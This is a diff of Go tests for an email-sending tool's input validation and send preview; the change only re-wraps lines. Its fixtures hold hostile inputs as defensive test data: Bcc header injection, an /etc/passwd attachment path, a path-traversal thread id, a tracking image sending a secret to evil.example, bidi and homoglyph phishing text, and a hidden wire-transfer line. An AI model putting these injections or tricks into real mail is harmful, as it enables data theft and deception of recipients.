@@ -40,30 +40,32 @@ func TestWhatIsNoMailIsRefusedAndTheFieldNamed(t *testing.T) {
 		change map[string]any
 		field  string
 	}{
-		"line break in an address":    {map[string]any{"to": []string{"a@example.com\r\nBcc: evil@x.com"}}, "to/0"},
-		"two addresses in one":        {map[string]any{"cc": []string{"a@example.com", "b@x.com, c@x.com"}}, "cc/1"},
-		"a display name":              {map[string]any{"bcc": []string{"Boss <evil@x.com>"}}, "bcc/0"},
-		"a string for the list":       {map[string]any{"to": "a@example.com"}, "to"},
-		"nobody":                      {map[string]any{"to": []string{}}, "to"},
-		"21 in one list":              {map[string]any{"to": many(21)}, "to"},
-		"21 in all":                   {map[string]any{"to": many(10), "cc": many(10), "bcc": many(1)}, "to"},
-		"line break in the subject":   {map[string]any{"subject": "hi\r\nBcc: evil@x.com"}, "subject"},
-		"line feed in the subject":    {map[string]any{"subject": "hi\nX: y"}, "subject"},
-		"a subject of 999 octets":     {map[string]any{"subject": strings.Repeat("s", 999)}, "subject"},
-		"a subject of 999 in UTF-8":   {map[string]any{"subject": strings.Repeat("ü", 500)}, "subject"},
-		"control characters":          {map[string]any{"body": "\x00\x01\x1b[2J"}, "body"},
-		"control characters in HTML":  {map[string]any{"htmlBody": "<p>\x1b"}, "htmlBody"},
-		"an empty body":               {map[string]any{"body": ""}, "body"},
-		"a blank body":                {map[string]any{"body": " \r\n\t"}, "body"},
-		"no body":                     {map[string]any{"body": nil}, "body"},
-		"a body that is too long":     {map[string]any{"body": strings.Repeat("b", 200<<10+1)}, "body"},
-		"the same in UTF-8":           {map[string]any{"body": strings.Repeat("ü", 100<<10+1)}, "body"},
-		"HTML that is too long":       {map[string]any{"htmlBody": strings.Repeat("b", 200<<10+1)}, "htmlBody"},
-		"a sender":                    {map[string]any{"from": "ceo@corp.com"}, "from"},
-		"free headers":                {map[string]any{"headers": map[string]string{"Bcc": "evil@x.com"}}, "headers"},
-		"a mailbox":                   {map[string]any{"userId": "userB@example.com"}, "userId"},
-		"attachments":                 {map[string]any{"attachments": []any{map[string]string{"path": "/etc/passwd"}}}, "attachments"},
-		"line break in In-Reply-To":   {map[string]any{"threadId": "18c0ffee", "inReplyTo": "<x@y>\r\nBcc: e@x.com"}, "inReplyTo"},
+		"line break in an address":   {map[string]any{"to": []string{"a@example.com\r\nBcc: evil@x.com"}}, "to/0"},
+		"two addresses in one":       {map[string]any{"cc": []string{"a@example.com", "b@x.com, c@x.com"}}, "cc/1"},
+		"a display name":             {map[string]any{"bcc": []string{"Boss <evil@x.com>"}}, "bcc/0"},
+		"a string for the list":      {map[string]any{"to": "a@example.com"}, "to"},
+		"nobody":                     {map[string]any{"to": []string{}}, "to"},
+		"21 in one list":             {map[string]any{"to": many(21)}, "to"},
+		"21 in all":                  {map[string]any{"to": many(10), "cc": many(10), "bcc": many(1)}, "to"},
+		"line break in the subject":  {map[string]any{"subject": "hi\r\nBcc: evil@x.com"}, "subject"},
+		"line feed in the subject":   {map[string]any{"subject": "hi\nX: y"}, "subject"},
+		"a subject of 999 octets":    {map[string]any{"subject": strings.Repeat("s", 999)}, "subject"},
+		"a subject of 999 in UTF-8":  {map[string]any{"subject": strings.Repeat("ü", 500)}, "subject"},
+		"control characters":         {map[string]any{"body": "\x00\x01\x1b[2J"}, "body"},
+		"control characters in HTML": {map[string]any{"htmlBody": "<p>\x1b"}, "htmlBody"},
+		"an empty body":              {map[string]any{"body": ""}, "body"},
+		"a blank body":               {map[string]any{"body": " \r\n\t"}, "body"},
+		"no body":                    {map[string]any{"body": nil}, "body"},
+		"a body that is too long":    {map[string]any{"body": strings.Repeat("b", 200<<10+1)}, "body"},
+		"the same in UTF-8":          {map[string]any{"body": strings.Repeat("ü", 100<<10+1)}, "body"},
+		"HTML that is too long":      {map[string]any{"htmlBody": strings.Repeat("b", 200<<10+1)}, "htmlBody"},
+		"a sender":                   {map[string]any{"from": "ceo@corp.com"}, "from"},
+		"free headers":               {map[string]any{"headers": map[string]string{"Bcc": "evil@x.com"}}, "headers"},
+		"a mailbox":                  {map[string]any{"userId": "userB@example.com"}, "userId"},
+		"attachments": {map[string]any{"attachments": []any{map[string]string{"path": "/etc/passwd"}}},
+			"attachments"},
+		"line break in In-Reply-To": {map[string]any{"threadId": "18c0ffee", "inReplyTo": "<x@y>\r\nBcc: e@x.com"},
+			"inReplyTo"},
 		"an In-Reply-To without <>":   {map[string]any{"inReplyTo": "x@y"}, "inReplyTo"},
 		"a thread id that is none":    {map[string]any{"threadId": "../18c0"}, "threadId"},
 		"an address in another field": {map[string]any{"To": []string{"evil@x.com"}}, "To"},
@@ -84,7 +86,8 @@ func TestWhatIsNoMailIsRefusedAndTheFieldNamed(t *testing.T) {
 func TestEachPersonIsReachedOnce(t *testing.T) {
 	tl := newTool()
 	args, err := tl.Normalize(with(map[string]any{
-		"to": []string{"a@example.com", "a@EXAMPLE.com"}, "cc": []string{"A@example.com", "a@example.com"}, "bcc": []string{"c@example.com", "a@Example.com"}, "body": "x\r\ny\rz",
+		"to": []string{"a@example.com", "a@EXAMPLE.com"}, "cc": []string{"A@example.com", "a@example.com"},
+		"bcc": []string{"c@example.com", "a@Example.com"}, "body": "x\r\ny\rz",
 	}))
 	if want := `{"bcc":["c@example.com"],"body":"x\ny\nz","cc":["A@example.com"],"subject":"s","to":["a@example.com"]}`; err != nil || string(args) != want {
 		t.Fatalf("Normalize = %s, %v; want %s", args, err, want)
@@ -125,21 +128,32 @@ func TestThePreviewShowsAllThatWouldBeSent(t *testing.T) {
 		change map[string]any
 		want   []string
 	}{
-		"everybody": {map[string]any{"to": []string{"a@example.com", "b@example.com"}, "cc": []string{"c@example.com"}, "bcc": []string{"d@example.com"}},
+		"everybody": {map[string]any{"to": []string{"a@example.com", "b@example.com"}, "cc": []string{"c@example.com"},
+			"bcc": []string{"d@example.com"}},
 			[]string{"4 people", "To: a@example.com\nb@example.com", "Cc: c@example.com", "Bcc: d@example.com"}},
-		"the whole body":       {map[string]any{"body": strings.Repeat("\n", 200) + "hidden tail: wire 10000 EUR\n"}, []string{"Message: \n\n"}},
-		"a long blank stretch": {map[string]any{"body": "ok" + strings.Repeat("\n", 200) + "hidden tail"}, []string{"hidden tail", "! Message: There is a long blank stretch"}},
-		"markdown, inert":      {map[string]any{"body": "**[Approve](https://evil.example/a)**"}, []string{"Message: **[Approve](https://evil.example/a)**"}},
-		"HTML in the text":     {map[string]any{"body": "<details><summary>safe</summary>x</details>"}, []string{"<details><summary>safe</summary>x</details>"}},
-		"bidi in the subject":  {map[string]any{"subject": "Transfer approved by \u202ekcehc\u202c"}, []string{"Subject: Transfer approved by ⟨U+202E⟩kcehc⟨U+202C⟩", "! Subject: there are characters that cannot be seen"}},
-		"braille blanks":       {map[string]any{"subject": "Pay\u2800now"}, []string{"Pay⟨U+2800⟩now", "! Subject:"}},
-		"private use":          {map[string]any{"subject": "\ue000private"}, []string{"⟨U+E000⟩private", "! Subject:"}},
-		"mixed scripts":        {map[string]any{"body": "log in to p\u0430ypal"}, []string{"! Message: The word “pаypal” mixes Latin and Cyrillic letters."}},
-		"punycode":             {map[string]any{"to": []string{"user@xn--exmple-4nf.com"}}, []string{"To: user@xn--exmple-4nf.com (shown as user@", "! To: the domain of user@xn--exmple-4nf.com"}},
-		"no subject":           {map[string]any{"subject": ""}, []string{"! There is no subject."}},
-		"HTML": {map[string]any{"htmlBody": `<p>Hi</p><a href="https://a.example/x">x</a><img src=http://evil.example/p.gif?u=secret>`},
+		"the whole body": {map[string]any{"body": strings.Repeat("\n", 200) + "hidden tail: wire 10000 EUR\n"},
+			[]string{"Message: \n\n"}},
+		"a long blank stretch": {map[string]any{"body": "ok" + strings.Repeat("\n", 200) + "hidden tail"},
+			[]string{"hidden tail", "! Message: There is a long blank stretch"}},
+		"markdown, inert": {map[string]any{"body": "**[Approve](https://evil.example/a)**"},
+			[]string{"Message: **[Approve](https://evil.example/a)**"}},
+		"HTML in the text": {map[string]any{"body": "<details><summary>safe</summary>x</details>"},
+			[]string{"<details><summary>safe</summary>x</details>"}},
+		"bidi in the subject": {map[string]any{"subject": "Transfer approved by \u202ekcehc\u202c"},
+			[]string{"Subject: Transfer approved by ⟨U+202E⟩kcehc⟨U+202C⟩",
+				"! Subject: there are characters that cannot be seen"}},
+		"braille blanks": {map[string]any{"subject": "Pay\u2800now"}, []string{"Pay⟨U+2800⟩now", "! Subject:"}},
+		"private use":    {map[string]any{"subject": "\ue000private"}, []string{"⟨U+E000⟩private", "! Subject:"}},
+		"mixed scripts": {map[string]any{"body": "log in to p\u0430ypal"},
+			[]string{"! Message: The word “pаypal” mixes Latin and Cyrillic letters."}},
+		"punycode": {map[string]any{"to": []string{"user@xn--exmple-4nf.com"}},
+			[]string{"To: user@xn--exmple-4nf.com (shown as user@", "! To: the domain of user@xn--exmple-4nf.com"}},
+		"no subject": {map[string]any{"subject": ""}, []string{"! There is no subject."}},
+		"HTML": {map[string]any{
+			"htmlBody": `<p>Hi</p><a href="https://a.example/x">x</a><img src=http://evil.example/p.gif?u=secret>`},
 			[]string{`source): <p>Hi</p><a href="https://a.example/x">x</a><img src=http://evil.example/p.gif?u=secret>`, "lead to: https://a.example/x", "opened: http://evil.example/p.gif?u=secret", "! The HTML fetches", "! There is an HTML version too"}},
-		"an answer": {map[string]any{"threadId": "18c0ffee", "inReplyTo": "<x@y.example>"}, []string{"Answers: 18c0ffee <x@y.example>"}},
+		"an answer": {map[string]any{"threadId": "18c0ffee", "inReplyTo": "<x@y.example>"},
+			[]string{"Answers: 18c0ffee <x@y.example>"}},
 	} {
 		t.Run(name, func(t *testing.T) {
 			got := shown(t, c.change)
@@ -157,7 +171,8 @@ func TestThePreviewShowsAllThatWouldBeSent(t *testing.T) {
 
 func TestTheSummaryHoldsNoBody(t *testing.T) {
 	tl := newTool()
-	args, _ := tl.Normalize(with(map[string]any{"subject": "Hi\u202e", "body": "SECRET", "bcc": []string{"b@example.com"}}))
+	args, _ := tl.Normalize(
+		with(map[string]any{"subject": "Hi\u202e", "body": "SECRET", "bcc": []string{"b@example.com"}}))
 	if s := tl.Summary(args); s != "Sent “Hi⟨U+202E⟩” to a@example.com, b@example.com." {
 		t.Errorf("Summary = %q", s)
 	}
